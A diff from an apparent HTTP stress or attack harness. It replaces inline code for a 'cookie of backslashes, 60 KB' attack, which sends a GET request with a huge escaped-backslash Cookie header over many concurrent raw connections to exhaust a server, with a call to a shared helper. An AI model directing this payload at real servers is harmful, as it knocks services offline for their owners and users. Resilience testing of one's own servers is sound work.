@@ -215,22 +215,8 @@ def cookies_15(target: Target, seconds: float) -> Running:
 
 
 @attack("cookie of backslashes, 60 KB", "attack 1", heavy=True)
-async def cookies_60(target: Target, seconds: float) -> Running:
-    """Once: that was enough for half a minute."""
-    text = request("GET", "/", Cookie='a="' + '\\"' * 30_000 + '"')
-    wires = [Raw(target, attacker(801)) for _ in range(on_all(target))]
-    yield ""
-
-    async def ask(wire: Raw) -> str:
-        try:
-            async with asyncio.timeout(seconds):
-                return str(await wire.ask(text))
-        except BROKEN as error:
-            return type(error).__name__
-        finally:
-            wire.close()
-
-    yield told(Counter(await asyncio.gather(*map(ask, wires))))
+def cookies_60(target: Target, seconds: float) -> Running:
+    return _cookies(target, seconds, 60_000, on_all(target))
 
 
 async def _frames(target: Target, seconds: float, sockets: int, first: bytes, frame: bytes) -> Running:
